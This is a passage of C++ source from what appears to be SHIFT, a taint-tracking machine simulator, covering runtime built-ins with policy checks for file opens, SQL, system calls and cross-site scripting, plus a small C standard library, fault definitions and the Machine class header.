syscallArgFault(Machine &m, const RuntimeContext &ctx, int argIndex,
                const char *what)
{
    if (!ctx.tracking() || !ctx.policy->config().checkSyscallArgs)
        return false;
    if (!m.argNat(argIndex))
        return false;
    m.natConsumptionFault(FaultContext::SyscallArg,
                          std::string("tainted pointer passed to ") +
                              what);
    return true;
}

/** Run a policy check; kill or log per configuration. */
bool
applyAlert(Machine &m, const RuntimeContext &ctx,
           std::optional<SecurityAlert> alert)
{
    if (!alert)
        return false;
    m.raiseAlert(std::move(*alert), ctx.policy->config().alertKills);
    return true;
}

/**
 * Flight-recorder instant for a policy check crossing the OS
 * boundary. `id` names the check family run at this call site (the
 * alert itself carries the precise policy that fired).
 */
void
notePolicyCheck(Machine &m, const char *id, uint64_t addr)
{
    if (obs::TraceBuffer *b = m.observer())
        b->emit(obs::Ev::PolicyCheck, obs::packPolicyId(id),
                m.currentFunction(), m.currentPc(), addr);
}

/**
 * sprintf implementation with taint propagation. Returns the formatted
 * string and, when tracking, its per-byte taint.
 */
struct Formatted
{
    std::string text;
    std::vector<bool> taint;
};

Formatted
formatString(Machine &m, const RuntimeContext &ctx, uint64_t fmtAddr,
             int firstArg)
{
    Formatted out;
    std::string fmt = readString(m, fmtAddr);
    std::vector<bool> fmtTaint = taintOf(ctx, fmtAddr, fmt);
    bool tracking = ctx.tracking();
    int argIdx = firstArg;

    auto push = [&](char c, bool tainted) {
        out.text.push_back(c);
        out.taint.push_back(tainted);
    };

    for (size_t i = 0; i < fmt.size(); ++i) {
        bool ft = tracking && i < fmtTaint.size() && fmtTaint[i];
        if (fmt[i] != '%' || i + 1 >= fmt.size()) {
            push(fmt[i], ft);
            continue;
        }
        char spec = fmt[++i];
        if (spec == '%') {
            push('%', ft);
            continue;
        }
        uint64_t value = m.arg(argIdx);
        bool regTaint = tracking && m.argNat(argIdx);
        ++argIdx;
        switch (spec) {
          case 's': {
            std::string s = readString(m, value);
            std::vector<bool> st = taintOf(ctx, value, s);
            for (size_t j = 0; j < s.size(); ++j)
                push(s[j], (j < st.size() && st[j]) || regTaint);
            break;
          }
          case 'd': {
            std::string digits =
                std::to_string(static_cast<int64_t>(value));
            for (char c : digits)
                push(c, regTaint);
            break;
          }
          case 'x': {
            char buf[32];
            std::snprintf(buf, sizeof buf, "%llx",
                          static_cast<unsigned long long>(value));
            for (const char *p = buf; *p; ++p)
                push(*p, regTaint);
            break;
          }
          case 'c':
            push(static_cast<char>(value), regTaint);
            break;
          default:
            SHIFT_FATAL("sprintf: unsupported conversion %%%c", spec);
        }
    }
    return out;
}

/** Write a formatted result into simulated memory + bitmap. */
void
storeFormatted(Machine &m, const RuntimeContext &ctx, uint64_t dst,
               const Formatted &f)
{
    MemFault fault = m.memory().writeBytes(dst, f.text.data(),
                                           f.text.size());
    SHIFT_ASSERT(fault == MemFault::None);
    fault = m.memory().write(dst + f.text.size(), 1, 0);
    SHIFT_ASSERT(fault == MemFault::None);
    if (ctx.tracking()) {
        // Summary: transfer per-byte taint to the destination. Clear
        // the whole range first, then set tainted bytes, so at word
        // granularity a unit's tag is the OR of its bytes. Tainted
        // bytes cluster (echoed request fields), so set them run by
        // run rather than one call per byte.
        ctx.taint->clear(dst, f.text.size() + 1);
        for (size_t i = 0; i < f.text.size();) {
            if (!f.taint[i]) {
                ++i;
                continue;
            }
            size_t j = i + 1;
            while (j < f.text.size() && f.taint[j])
                ++j;
            ctx.taint->taint(dst + i, j - i);
            i = j;
        }
    }
    m.addOsCycles(20 + 4 * f.text.size());
}

} // namespace

void
registerRuntimeBuiltins(Machine &machine, RuntimeContext &ctx)
{
    Os *os = ctx.os;
    SHIFT_ASSERT(os != nullptr);
    RuntimeContext *c = &ctx;

    machine.registerBuiltin("exit", [](Machine &m) {
        m.requestExit(static_cast<int64_t>(m.arg(0)));
    });

    machine.registerBuiltin("print", [os](Machine &m) {
        std::string s = readString(m, m.arg(0));
        os->writeFd(m, 1, m.arg(0), s.size());
        m.setRetval(s.size());
    });

    machine.registerBuiltin("print_num", [os](Machine &m) {
        std::string s = std::to_string(static_cast<int64_t>(m.arg(0)));
        // Stage through OS scratch space so writeFd sees sim memory.
        uint64_t scratch = regionBase(kOsRegion) + 0x1000;
        m.memory().writeBytes(scratch, s.data(), s.size());
        os->writeFd(m, 1, scratch, s.size());
        m.setRetval(s.size());
    });

    machine.registerBuiltin("open", [os, c](Machine &m) {
        if (syscallArgFault(m, *c, 0, "open"))
            return;
        uint64_t pathAddr = m.arg(0);
        std::string path = readString(m, pathAddr);
        if (c->tracking()) {
            notePolicyCheck(m, "H2", pathAddr);
            auto alert = c->policy->checkFileOpen(
                path, taintOf(*c, pathAddr, path));
            if (applyAlert(m, *c, std::move(alert))) {
                m.setRetval(static_cast<uint64_t>(-1));
                return;
            }
        }
        m.setRetval(static_cast<uint64_t>(
            os->openFd(m, path, static_cast<int64_t>(m.arg(1)))));
    });

    machine.registerBuiltin("read", [os, c](Machine &m) {
        if (syscallArgFault(m, *c, 1, "read"))
            return;
        m.setRetval(static_cast<uint64_t>(
            os->readFd(m, static_cast<int64_t>(m.arg(0)), m.arg(1),
                       m.arg(2))));
    });

    machine.registerBuiltin("write", [os, c](Machine &m) {
        if (syscallArgFault(m, *c, 1, "write"))
            return;
        m.setRetval(static_cast<uint64_t>(
            os->writeFd(m, static_cast<int64_t>(m.arg(0)), m.arg(1),
                        m.arg(2))));
    });

    machine.registerBuiltin("close", [os](Machine &m) {
        m.setRetval(static_cast<uint64_t>(
            os->closeFd(m, static_cast<int64_t>(m.arg(0)))));
    });

    machine.registerBuiltin("accept", [os](Machine &m) {
        m.setRetval(static_cast<uint64_t>(os->acceptFd(m)));
    });

    machine.registerBuiltin("recv", [os](Machine &m) {
        m.setRetval(static_cast<uint64_t>(
            os->readFd(m, static_cast<int64_t>(m.arg(0)), m.arg(1),
                       m.arg(2))));
    });

    // send(): the outbound-HTML boundary; H5 (cross-site scripting)
    // is checked on data leaving for the network.
    machine.registerBuiltin("send", [os, c](Machine &m) {
        uint64_t buf = m.arg(1);
        uint64_t len = m.arg(2);
        if (c->tracking()) {
            std::string data(len, '\0');
            if (m.memory().readBytes(buf, data.data(), len) ==
                MemFault::None) {
                notePolicyCheck(m, "H5", buf);
                // Map-querying overload: probe taint only at
                // `<script` matches instead of materializing a
                // per-byte vector for the whole response.
                auto alert =
                    c->policy->checkHtml(data, *c->taint, buf);
                if (applyAlert(m, *c, std::move(alert))) {
                    m.setRetval(static_cast<uint64_t>(-1));
                    return;
                }
            }
        }
        m.setRetval(static_cast<uint64_t>(
            os->writeFd(m, static_cast<int64_t>(m.arg(0)), buf, len)));
    });

    machine.registerBuiltin("file_size", [os](Machine &m) {
        std::string path = readString(m, m.arg(0));
        m.setRetval(static_cast<uint64_t>(os->fileSize(path)));
    });

    machine.registerBuiltin("malloc", [](Machine &m) {
        m.setRetval(m.sbrk(m.arg(0)));
    });

    machine.registerBuiltin("free", [](Machine &m) {
        // Bump allocator: free is a no-op.
        m.setRetval(0);
    });

    machine.registerBuiltin("sprintf", [c](Machine &m) {
        Formatted f = formatString(m, *c, m.arg(1), 2);
        storeFormatted(m, *c, m.arg(0), f);
        m.setRetval(f.text.size());
    });

    machine.registerBuiltin("sql_exec", [c](Machine &m) {
        uint64_t queryAddr = m.arg(0);
        std::string query = readString(m, queryAddr);
        if (c->tracking()) {
            notePolicyCheck(m, "H3", queryAddr);
            auto alert = c->policy->checkSql(
                query, taintOf(*c, queryAddr, query));
            if (applyAlert(m, *c, std::move(alert))) {
                m.setRetval(static_cast<uint64_t>(-1));
                return;
            }
        }
        m.addOsCycles(4000 + 2 * query.size());
        m.setRetval(0);
    });

    machine.registerBuiltin("system", [c](Machine &m) {
        uint64_t cmdAddr = m.arg(0);
        std::string cmd = readString(m, cmdAddr);
        if (c->tracking()) {
            notePolicyCheck(m, "H4", cmdAddr);
            auto alert = c->policy->checkSystem(
                cmd, taintOf(*c, cmdAddr, cmd));
            if (applyAlert(m, *c, std::move(alert))) {
                m.setRetval(static_cast<uint64_t>(-1));
                return;
            }
        }
        m.addOsCycles(50000);
        m.setRetval(0);
    });

    machine.registerBuiltin("html_write", [os, c](Machine &m) {
        uint64_t addr = m.arg(0);
        std::string html = readString(m, addr);
        if (c->tracking()) {
            notePolicyCheck(m, "H5", addr);
            // The map-querying overload probes taint only at
            // `<script` match positions — no per-byte taint vector
            // for the whole response body.
            auto alert = c->policy->checkHtml(html, *c->taint, addr);
            if (applyAlert(m, *c, std::move(alert))) {
                m.setRetval(static_cast<uint64_t>(-1));
                return;
            }
        }
        os->writeFd(m, 1, addr, html.size());
        m.setRetval(html.size());
    });

    // ----- test / example helpers ---------------------------------------

    machine.registerBuiltin("__taint", [c](Machine &m) {
        if (c->taint)
            c->taint->taint(m.arg(0), m.arg(1));
        m.setRetval(0);
    });

    machine.registerBuiltin("__untaint", [c](Machine &m) {
        if (c->taint)
            c->taint->clear(m.arg(0), m.arg(1));
        m.setRetval(0);
    });

    machine.registerBuiltin("__mem_tainted", [c](Machine &m) {
        m.setRetval(c->taint && c->taint->isTainted(m.arg(0)) ? 1 : 0);
    });

    machine.registerBuiltin("__arg_tainted", [](Machine &m) {
        // SHIFT keeps register taint in the NaT bit; the software
        // baseline keeps it in the r31 bitmap (bit per register).
        bool baselineBit = (m.gprVal(reg::natSrc) >> reg::arg0) & 1;
        m.setRetval(m.argNat(0) || baselineBit ? 1 : 0);
    });
}

} // namespace shift
