#include "minic_stdlib.hh"

namespace shift
{

const char *const kMiniCStdlib = R"MINIC(
// ---------------------------------------------------------------------
// MiniC standard library ("libc"). Compiled and instrumented with the
// application, so taint propagates through these routines via the
// ordinary SHIFT load/store instrumentation.
// ---------------------------------------------------------------------

long strlen(char *s) {
    long n = 0;
    while (s[n]) n++;
    return n;
}

char *strcpy(char *dst, char *src) {
    long i = 0;
    while (src[i]) { dst[i] = src[i]; i++; }
    dst[i] = 0;
    return dst;
}

char *strncpy(char *dst, char *src, long n) {
    long i = 0;
    while (i < n && src[i]) { dst[i] = src[i]; i++; }
    while (i < n) { dst[i] = 0; i++; }
    return dst;
}

char *strcat(char *dst, char *src) {
    long n = strlen(dst);
    strcpy(dst + n, src);
    return dst;
}

int strcmp(char *a, char *b) {
    long i = 0;
    while (a[i] && a[i] == b[i]) i++;
    return (int)a[i] - (int)b[i];
}

int strncmp(char *a, char *b, long n) {
    long i = 0;
    while (i < n && a[i] && a[i] == b[i]) i++;
    if (i == n) return 0;
    return (int)a[i] - (int)b[i];
}

int tolower_c(int c) {
    if (c >= 'A' && c <= 'Z') return c + 32;
    return c;
}

int strcasecmp(char *a, char *b) {
    long i = 0;
    while (a[i] && tolower_c(a[i]) == tolower_c(b[i])) i++;
    return tolower_c(a[i]) - tolower_c(b[i]);
}

char *strchr(char *s, int c) {
    long i = 0;
    while (s[i]) {
        if ((int)s[i] == c) return s + i;
        i++;
    }
    if (c == 0) return s + i;
    return (char*)0;
}

char *strstr(char *hay, char *needle) {
    long nl = strlen(needle);
    if (nl == 0) return hay;
    long i = 0;
    while (hay[i]) {
        if (strncmp(hay + i, needle, nl) == 0) return hay + i;
        i++;
    }
    return (char*)0;
}

char *memcpy(char *dst, char *src, long n) {
    for (long i = 0; i < n; i++) dst[i] = src[i];
    return dst;
}

char *memset(char *dst, int c, long n) {
    for (long i = 0; i < n; i++) dst[i] = (char)c;
    return dst;
}

int memcmp(char *a, char *b, long n) {
    for (long i = 0; i < n; i++) {
        if (a[i] != b[i]) return (int)a[i] - (int)b[i];
    }
    return 0;
}

int isdigit_c(int c) { return c >= '0' && c <= '9'; }
int isalpha_c(int c) {
    return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
}
int isspace_c(int c) {
    return c == ' ' || c == '\t' || c == '\n' || c == '\r';
}

int atoi(char *s) {
    int sign = 1;
    long i = 0;
    while (isspace_c(s[i])) i++;
    if (s[i] == '-') { sign = -1; i++; }
    else if (s[i] == '+') i++;
    int v = 0;
    while (isdigit_c(s[i])) { v = v * 10 + (s[i] - '0'); i++; }
    return sign * v;
}

// Writes the decimal form of v into buf; returns its length.
long itoa(long v, char *buf) {
    long i = 0;
    if (v < 0) { buf[i] = '-'; i++; v = -v; }
    char tmp[24];
    long n = 0;
    if (v == 0) { tmp[n] = '0'; n++; }
    while (v > 0) { tmp[n] = (char)('0' + v % 10); n++; v = v / 10; }
    while (n > 0) { n--; buf[i] = tmp[n]; i++; }
    buf[i] = 0;
    return i;
}
)MINIC";

} // namespace shift
