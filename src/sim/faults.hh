/**
 * @file
 * Faults and security alerts.
 *
 * The low-level SHIFT policies (L1-L3 of paper table 1) are enforced by
 * the hardware itself: improper consumption of a NaT (tainted) value
 * raises a NaT-consumption fault, and the fault *context* says which
 * policy was violated (load address / store address / control transfer /
 * system call argument). High-level policies (H1-H5) are raised in
 * software by runtime built-ins through Machine::raiseAlert().
 */

#ifndef SHIFT_SIM_FAULTS_HH
#define SHIFT_SIM_FAULTS_HH

#include <cstdint>
#include <string>

namespace shift
{

/** Machine-level fault kinds. */
enum class FaultKind : uint8_t
{
    None,
    NatConsumption, ///< NaT token consumed by a non-speculative use
    IllegalAddress, ///< unmapped or unimplemented address
    DivByZero,
    BadIndirect,    ///< indirect branch to a non-function address
    UnknownFunction,///< call target neither user code nor a built-in
    StepLimit,      ///< execution exceeded the configured step budget
    BadProgram,     ///< malformed code (e.g. a branch to an unresolved
                    ///< label); the predecoder rejects this at
                    ///< Machine-construction time
};

/** What the faulting instruction was doing with the NaT value. */
enum class FaultContext : uint8_t
{
    None,
    LoadAddress,   ///< tainted pointer dereferenced (policy L1)
    StoreAddress,  ///< tainted store address (policy L2)
    StoreValue,    ///< NaT source stored through plain st (no policy; bug)
    ControlFlow,   ///< tainted value moved into a branch register (L3)
    SyscallArg,    ///< tainted system-call argument (L3 family)
    AppRegister,   ///< tainted value moved into an application register
};

/** A recorded fault. */
struct Fault
{
    FaultKind kind = FaultKind::None;
    FaultContext context = FaultContext::None;
    int function = -1;      ///< function index
    uint64_t pc = 0;        ///< instruction index within the function
    uint64_t addr = 0;      ///< offending address, when applicable
    std::string detail;

    explicit operator bool() const { return kind != FaultKind::None; }
};

const char *faultKindName(FaultKind kind);
const char *faultContextName(FaultContext ctx);

/** A security alert raised by policy enforcement. */
struct SecurityAlert
{
    std::string policy;  ///< "L1", "H3", ...
    std::string message;
    int function = -1;
    uint64_t pc = 0;
};

} // namespace shift

#endif // SHIFT_SIM_FAULTS_HH
