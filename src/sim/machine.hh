/**
 * @file
 * The SHIFT-64 machine: registers with NaT bits, deferred-exception
 * semantics, predication, a call stack, simulated memory, an L1D model
 * and per-provenance cycle accounting.
 *
 * Deferred-exception semantics (paper section 2.2):
 *  - ALU operations OR the NaT bits of their sources into the target.
 *  - A speculative load (ld.s) whose address is invalid, unmapped or
 *    itself NaT sets the target's NaT bit (value 0) instead of faulting.
 *  - Ordinary compares clear BOTH destination predicates when an
 *    operand carries NaT; cmp.nat (the paper's proposed enhancement)
 *    compares normally.
 *  - Consuming a NaT where irreversible state would be produced — a
 *    non-speculative load/store address, a plain store source, a move
 *    into a branch or application register, a system-call argument —
 *    raises a NaT-consumption fault. With taint in the NaT bit these
 *    faults ARE the low-level SHIFT policies L1-L3.
 *  - st8.spill/ld8.fill move the NaT bit through the per-word memory
 *    sidecar; chk.s branches to recovery code when NaT is set.
 */

#ifndef SHIFT_SIM_MACHINE_HH
#define SHIFT_SIM_MACHINE_HH

#include <array>
#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "isa/instruction.hh"
#include "isa/program.hh"
#include "jit/jit.hh"
#include "mem/cache.hh"
#include "mem/memory.hh"
#include "obs/profiler.hh"
#include "obs/trace.hh"
#include "sim/cycle_model.hh"
#include "sim/decoded.hh"
#include "sim/faults.hh"
#include "support/stats.hh"

namespace shift::dift
{
class AsyncTaintTier;
struct Violation;
} // namespace shift::dift

namespace shift
{

class Machine;

namespace jit
{
struct JitOps;
}

/**
 * Fast-tier cold demotion: a superblock whose deopt count reaches this
 * AND is at least half its enter count is marked cold and bails to the
 * instrumented stream at entry. Shared by the interpreter and the JIT
 * runtime helpers so both tiers demote identically.
 */
constexpr uint32_t kFpColdDeopts = 8;

/**
 * Call-stack depth limit, shared by the interpreter's enterFunction
 * and the JIT call helpers (both fault identically at the crossing).
 */
constexpr size_t kMaxCallDepth = 1 << 16;

/** Architectural feature switches (paper section 6.3 enhancements). */
struct CpuFeatures
{
    bool natSetClear = false;   ///< setnat / clrnat instructions
    bool natAwareCompare = false; ///< cmp.nat instruction
};

/** A native built-in: reads args from r16.., writes results to r8. */
using BuiltinFn = std::function<void(Machine &)>;

/** Handler for system calls (installed by the simulated OS). */
using SyscallFn = std::function<void(Machine &, int64_t number)>;

/**
 * Converts a NaT-consumption fault into a security alert. Returning
 * nullopt leaves the raw hardware fault in place.
 */
using NatFaultHandler =
    std::function<std::optional<SecurityAlert>(Machine &, const Fault &)>;

/**
 * Called before each (non-label) instruction executes; the machine
 * state visible through the reference is the pre-execution state.
 */
using TraceFn = std::function<void(const Machine &, const Instr &)>;

/** Result of Machine::run(). */
struct RunResult
{
    bool exited = false;         ///< program terminated normally
    int64_t exitCode = 0;
    Fault fault;                 ///< set when stopped by a fault
    std::vector<SecurityAlert> alerts;
    bool killedByPolicy = false; ///< an alert with kill action stopped us
    uint64_t instructions = 0;   ///< dynamic instruction count
    uint64_t cycles = 0;         ///< total simulated cycles (incl. OS)
    StatSet stats;               ///< detailed breakdown counters

    /**
     * The taint-provenance chain behind a policy detection: the
     * last-N taint-relevant flight-recorder events (source syscall →
     * propagating tag stores → the failing check) ending at the
     * killing alert's pc. Empty unless a recorder was attached (see
     * Machine::setObserver) and an alert fired.
     */
    std::vector<obs::TraceEvent> provenance;

    /** True when the run ended without fault or policy kill. */
    bool ok() const { return exited && !fault && !killedByPolicy; }
};

/**
 * A capture of a machine that has been built but not yet run: the
 * whole address space (COW-shared pages, including the region-0 taint
 * bitmap and NaT sidecars), every architectural register with its NaT
 * bit, the layout tables, and a reference to the already-decoded
 * program. Taking one is O(pages) map work; constructing a Machine
 * from one skips layout and decode entirely, so a fleet can fork many
 * runnable clones from a single compile. See docs/FLEET.md.
 */
struct MachineSnapshot
{
    Memory::Snapshot mem;

    std::array<uint64_t, kNumGpr> gprVal{};
    std::array<bool, kNumGpr> gprNat{};
    std::array<bool, kNumPred> pred{};
    std::array<uint64_t, kNumBr> br{};
    uint64_t unat = 0;

    int curFunc = -1;
    uint64_t pc = 0;

    std::map<std::string, uint64_t> globalAddr;
    uint64_t heapBreak = 0;
    uint64_t heapLimit = 0;

    /** Shared immutable decode result (null under ExecEngine::Legacy). */
    std::shared_ptr<const DecodedProgram> decoded;

    /**
     * Shared executable code cache (null unless the source machine had
     * the JIT tier enabled). Clones adopt it read-mostly: compiled
     * bodies are immutable once published, so a whole fleet shares one
     * set of RX buffers and one set of hotness counters.
     */
    std::shared_ptr<jit::CodeCache> jitCache;
};

/** The simulated machine. */
class Machine
{
  public:
    /**
     * Build a machine around a program: lays out globals in the data
     * region, maps the stack, and (for the default predecoded engine)
     * runs the decode/link pass that strips labels, resolves branch
     * targets and call destinations, and precomputes per-instruction
     * metadata. A malformed program (branch to an unresolved label) is
     * rejected here: run() returns a BadProgram fault immediately. The
     * program must outlive the machine.
     *
     * ExecEngine::Legacy forces the original per-step resolution path;
     * it exists as the reference implementation for equivalence tests
     * and A/B throughput measurement (bench_interp).
     */
    explicit Machine(const Program &program, CpuFeatures features = {},
                     ExecEngine engine = ExecEngine::Predecoded);

    /**
     * Fork a machine from a pre-run snapshot: adopts the snapshot's
     * pages copy-on-write and its register file, and reuses the shared
     * decode result instead of decoding again. The program (and the
     * snapshot's pages, via shared_ptr) must outlive the machine.
     * Environment wiring (builtins, handlers) is per-machine and
     * starts empty.
     */
    Machine(const Program &program, const MachineSnapshot &snap,
            CpuFeatures features = {},
            ExecEngine engine = ExecEngine::Predecoded);

    /**
     * Capture the full pre-run state for cloning. Only legal before
     * run(): a consumed machine's caches, stop flags and call stack
     * are not part of the snapshot contract.
     */
    MachineSnapshot capture() const;

    // ----- execution ---------------------------------------------------

    /** Run from the entry function until exit, fault or step limit. */
    RunResult run(uint64_t maxSteps = 2'000'000'000ULL);

    // ----- environment wiring ------------------------------------------

    /** Register a native built-in callable by name. */
    void registerBuiltin(const std::string &name, BuiltinFn fn);

    /** Install the system-call handler. */
    void setSyscallHandler(SyscallFn fn) { syscall_ = std::move(fn); }

    /** Install the NaT-fault-to-alert converter (security monitor). */
    void setNatFaultHandler(NatFaultHandler fn) { natFault_ = std::move(fn); }

    /**
     * Install an instruction trace hook (debugging aid). On the
     * predecoded engine this re-decodes the program without macro-op
     * fusion (before the run only), so the hook sees every
     * architectural instruction individually.
     */
    void setTraceHook(TraceFn fn);

    /** Raise a software security alert (H1-H5); kill stops the run. */
    void raiseAlert(SecurityAlert alert, bool kill);

    /** Request normal termination with an exit code (exit syscall). */
    void requestExit(int64_t code);

    /**
     * Push a call frame and enter a user function (for built-ins that
     * invoke simulated code, e.g. callbacks). Execution continues in
     * the callee when the built-in returns; the frame's return pc is
     * the instruction after the built-in's call site.
     */
    void callFunction(int funcIndex);

    /** Charge extra cycles (used by the OS I/O cost model). */
    void addOsCycles(uint64_t cycles) { osCycles_ += cycles; }

    // ----- architectural state -----------------------------------------

    uint64_t gprVal(int r) const { return gpr_[r].val; }
    bool gprNat(int r) const { return gpr_[r].nat; }
    void setGpr(int r, uint64_t val, bool nat = false);
    bool pred(int p) const { return pred_[p]; }
    void setPred(int p, bool v);
    uint64_t brVal(int b) const { return br_[b]; }
    uint64_t unat() const { return unat_; }

    /** Built-in helpers: i-th argument register (r16+i). */
    uint64_t arg(int i) const { return gpr_[reg::arg0 + i].val; }
    /**
     * Argument-register taint: the NaT bit, or — under the async
     * taint tier, where the engine's NaT machinery is dormant — the
     * consumer's shadow register taint (callers run at a fence, so
     * the shadow is quiesced and exact).
     */
    bool argNat(int i) const;
    void setRetval(uint64_t val, bool nat = false);

    // ----- memory & layout ----------------------------------------------

    Memory &memory() { return mem_; }
    const Memory &memory() const { return mem_; }
    Cache &dcache() { return dcache_; }

    /** Address of a global by name; fatal if absent. */
    uint64_t globalAddr(const std::string &name) const;

    /** Grow the heap; returns the previous break. */
    uint64_t sbrk(uint64_t bytes);

    const Program &program() const { return *program_; }
    const CpuFeatures &features() const { return features_; }
    ExecEngine engine() const { return engine_; }
    CycleModel &cycleModel() { return cycleModel_; }

    /**
     * Raise a NaT-consumption fault from a built-in or the OS (e.g. a
     * tainted system-call argument). Stops the run.
     */
    void natConsumptionFault(FaultContext ctx, const std::string &detail);

    /** Current function index / pc (for alert records and tests). */
    int currentFunction() const { return curFunc_; }
    uint64_t currentPc() const { return archPc(); }

    // ----- taint-clean fast path (docs/FAST-PATH.md) --------------------

    /**
     * Enable the dual-version fast tier: control transfers promote
     * into per-function fast streams whose taint checks/updates are
     * elided behind hierarchical-summary probes. Off by default; only
     * meaningful on the predecoded engine (the legacy engine and
     * trace-hook re-decodes have no fast streams and silently stay on
     * the instrumented path).
     */
    void setFastPathEnabled(bool enabled) { fastEnabled_ = enabled; }
    bool fastPathEnabled() const { return fastEnabled_; }

    /** Fast-tier counters (also emitted as fastpath.* stats). */
    uint64_t fastBlocksEntered() const { return fpEnteredTotal_; }
    uint64_t fastDeopts() const { return fpDeoptTotal_; }

    // ----- JIT tier (docs/JIT.md) ---------------------------------------

    /**
     * Enable the JIT tier: functions whose entry count crosses the
     * promotion threshold (0 = the cache default) are compiled to host
     * code and entered from the interpreter's dispatch points. Only
     * meaningful on the predecoded engine when jitAvailable(); the
     * call is a silent no-op elsewhere, so callers can set it
     * unconditionally. Call after setFastPathEnabled — the compiled
     * code bakes the fast-tier promotion policy in. The cache is
     * created eagerly so capture() can share it with clones.
     *
     * `background` moves compilation onto the cache's compile thread
     * (requests queue at the threshold crossing; execution keeps
     * interpreting until the body installs). `lazyBlocks` compiles at
     * dual-version-superblock granularity on first hot entry instead
     * of whole functions. Both default off (the original behavior).
     */
    void setJitEnabled(bool enabled, uint32_t threshold = 0,
                       size_t cacheBytes = 0, bool background = false,
                       bool lazyBlocks = false);
    bool jitEnabled() const { return jitEnabled_; }

    /** True when this build/host can generate and run native code. */
    static bool jitAvailable() { return jit::available(); }

    /** JIT counters (also emitted as jit.* stats). */
    uint64_t jitCompiled() const { return jitCompiled_; }
    uint64_t jitEntered() const { return jitEntered_; }
    uint64_t jitDeopts() const { return jitDeopts_; }
    uint64_t jitBailouts() const { return jitBailouts_; }
    uint64_t jitCodeBytes() const { return jitCodeBytes_; }
    uint64_t jitEvictions() const { return jitEvictions_; }
    /** Built-in/syscall exits that re-entered compiled code natively. */
    uint64_t jitLinkedBuiltins() const { return jitLinkedBuiltins_; }

    // ----- observability (docs/OBSERVABILITY.md) ------------------------

    /**
     * Attach a flight-recorder ring: the engine emits structured
     * trace events (fast-tier enter/deopt/cold-bail with pc and
     * cause, tainted tag stores, COW page copies, policy verdicts)
     * and maintains the per-PC hot-spot table. Null detaches. With no
     * buffer attached the whole subsystem costs one branch at run()
     * (the tracing-enabled interpreter loop is a separate template
     * instantiation), which perf-smoke-obs enforces.
     */
    void setObserver(obs::TraceBuffer *buffer);
    obs::TraceBuffer *observer() const { return obs_; }

    /**
     * Bench/test knob: force run() through the tracing-capable
     * interpreter instantiation even with no buffer attached, so the
     * cost of its disabled branches is measurable (bench_obs).
     */
    void setObsDispatchForced(bool forced) { obsForce_ = forced; }

    /**
     * Attach the tier-attribution profiler: run() selects a
     * profiling interpreter instantiation (separate template axis,
     * like kObs) that samples host time into {tier, function, pc}
     * buckets and carves exact sub-intervals for async publication,
     * JIT compilation, built-ins and system calls. The machine calls
     * begin()/stop() around the run and folds the tables into the
     * run's StatSet as `prof.*` (docs/OBSERVABILITY.md). Null
     * detaches; with none attached the subsystem costs nothing (the
     * profiling loop is a separate instantiation, enforced by
     * perf-smoke-prof). Composes with the JIT tier — compiled code
     * accrues to jit-slow/jit-fast between dispatch hooks.
     */
    void setProfiler(obs::Profiler *prof) { prof_ = prof; }
    obs::Profiler *profiler() const { return prof_; }

    // ----- async taint tier (docs/ASYNC-TAINT.md) -----------------------

    /**
     * Attach the decoupled taint tier: run() selects the async
     * interpreter instantiation, which emits trace events instead of
     * executing inline instrumentation, fences at policy boundaries,
     * and applies the consumer's verdicts. The machine must run an
     * async-annotated program (dift::annotateForAsync) — never an
     * instrumented one. The tier must outlive the machine's run().
     * Predecoded engine only. The machine starts and shuts the tier
     * down around the run.
     */
    void setAsyncTier(dift::AsyncTaintTier *tier) { asyncTier_ = tier; }
    dift::AsyncTaintTier *asyncTier() const { return asyncTier_; }

  private:
    /** The JIT runtime helpers replay handler semantics on our state. */
    friend struct jit::JitOps;

    struct Gpr
    {
        uint64_t val = 0;
        bool nat = false;
    };

    struct Frame
    {
        int function;
        uint64_t returnPc;
        /**
         * Which stream returnPc indexes: true = the caller was in its
         * function's fast tier, so the return lands in `fast`, false =
         * the instrumented stream. Meaningless under the legacy engine.
         */
        bool fast = false;
    };

    void layout();
    void resolveLabels();
    void reset();

    /** Execute one instruction; updates pc/cycles; may set stop state. */
    void stepLegacy();

    /**
     * The predecoded engine's fused interpreter loop: runs until the
     * machine stops or maxSteps iterations elapse. One switch executes
     * each operation directly (no per-opcode helper dispatch), with the
     * pc and the hot counters held in locals that are written back to
     * the architectural members around every observation point (trace
     * hooks, built-ins, system calls, faults, alerts).
     *
     * kObs selects the tracing-capable instantiation: flight-recorder
     * emit sites and the per-PC hot-spot counter compile in behind
     * `if constexpr`, so the production (kObs=false) loop carries
     * literally zero disabled-tracing instructions.
     */
    template <bool kObs, bool kHotPc, bool kAsync, bool kProf>
    void runDecoded(uint64_t maxSteps);

    /**
     * Raise the consumer's recorded violation as the synchronous
     * engine's NaT-consumption fault: same context, detail, address,
     * function and architectural pc. Clears any engine verdict the
     * (lag-bounded) run produced after the violating instruction.
     */
    void applyAsyncViolation(const dift::Violation &v);

    /**
     * The architectural (original-program) pc: the legacy engine runs
     * on original indices directly; the predecoded engine translates
     * its dense pc back through the per-instruction origIndex so
     * faults, alerts and currentPc() are engine-independent.
     */
    uint64_t archPc() const;

    void execAlu(const Instr &instr);
    void execCmp(const Instr &instr);
    void execLd(const Instr &instr);
    void execSt(const Instr &instr);
    void doCall(int funcIndex);
    void doBuiltinOrFault(const Instr &instr);
    void runBuiltin(const Instr &instr, const BuiltinFn &fn);

    /** Source-2 value for reg-or-imm operands. */
    uint64_t src2Val(const Instr &instr) const;
    bool src2Nat(const Instr &instr) const;

    void setFault(FaultKind kind, FaultContext ctx, uint64_t addr,
                  const std::string &detail);
    void chargeCycles(const Instr &instr, uint64_t cycles);
    void chargeMemAccess(const Instr &instr, uint64_t addr, bool isLoad);

    const Program *program_;
    CpuFeatures features_;
    ExecEngine engine_;
    CycleModel cycleModel_;

    // Predecoded engine state (null under ExecEngine::Legacy). Shared
    // and immutable after construction so snapshot clones reuse one
    // decode result instead of re-decoding per clone.
    std::shared_ptr<const DecodedProgram> decoded_;
    /** Slot id -> registered builtin (bound by registerBuiltin). */
    std::vector<const BuiltinFn *> builtinSlotFns_;

    Memory mem_;
    Cache dcache_;

    std::array<Gpr, kNumGpr> gpr_{};
    std::array<bool, kNumPred> pred_{};
    std::array<uint64_t, kNumBr> br_{};
    uint64_t unat_ = 0;

    int curFunc_ = -1;
    uint64_t pc_ = 0;
    /**
     * Which stream pc_ indexes (predecoded engine only): true = the
     * current function's fast tier. Synced with runDecoded's local
     * around every observation point, like pc_.
     */
    bool inFast_ = false;
    /**
